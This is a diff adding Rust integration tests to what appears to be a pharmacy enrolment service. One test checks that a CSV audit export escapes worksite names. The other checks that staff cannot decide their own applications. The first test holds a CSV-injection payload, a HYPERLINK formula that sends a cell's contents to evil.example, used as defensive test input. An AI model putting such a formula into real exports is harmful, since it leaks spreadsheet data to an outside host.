@@ -815,6 +815,31 @@ async fn the_audit_log_is_searched_and_exported_by_staff_only() {
     assert!(lines[0].starts_with("id,occurred_at_pacific,actor"));
     assert!(lines[1].contains("Application submitted"));
     assert!(lines[1].contains("Pia Pharm <pia@clinic.example>"));
+
+    // Anyone may name a worksite like a formula: the export opens it as text.
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&C2,\"open\")";
+    let named = register_worksite(
+        state,
+        p.owner,
+        &worksite_form(formula, "77 Formula St", "V6E 1H4"),
+    )
+    .await;
+    let of_it = AuditQuery {
+        worksite: named.code.to_string(),
+        ..Default::default()
+    };
+    let csv = audit_search::export_csv(&state.db, p.sam, &of_it)
+        .await
+        .unwrap();
+    let mut reader = csv::Reader::from_reader(csv.as_slice());
+    let worksites: Vec<String> = reader
+        .records()
+        .map(|record| record.unwrap()[4].to_owned())
+        .collect();
+    assert!(!worksites.is_empty());
+    for cell in worksites {
+        assert!(cell.starts_with("'=HYPERLINK"), "{cell}");
+    }
 }
 
 #[tokio::test]
@@ -966,4 +991,34 @@ async fn an_identity_from_the_development_provider_never_counts_as_validated() {
         .await
         .unwrap();
     assert!(!record.identity_validated);
+}
+
+#[tokio::test]
+async fn a_team_member_never_decides_their_own_application() {
+    let test = TestDb::new().await;
+    let state = &test.state;
+    let p = pharmacy(state).await;
+    // Pia is a pharmacist and joins the CareConnect team.
+    as_operator(state, async |ch| {
+        grant_staff(ch, "pia@clinic.example").await
+    })
+    .await
+    .unwrap();
+    submit(state, p.pia, &enrolment(&p.site.code))
+        .await
+        .unwrap();
+    let mine = only_application(state, p.pia).await;
+    let refused = decide(state, p.pia, mine.id, Decision::StartReview, "").await;
+    assert!(
+        matches!(&refused, Err(AppError::Refused(reason)) if reason.to_string().contains("your own application")),
+        "{refused:?}"
+    );
+    assert_eq!(
+        only_application(state, p.pia).await.status,
+        mine.status,
+        "nothing changed"
+    );
+    decide(state, p.sam, mine.id, Decision::StartReview, "")
+        .await
+        .unwrap();
 }
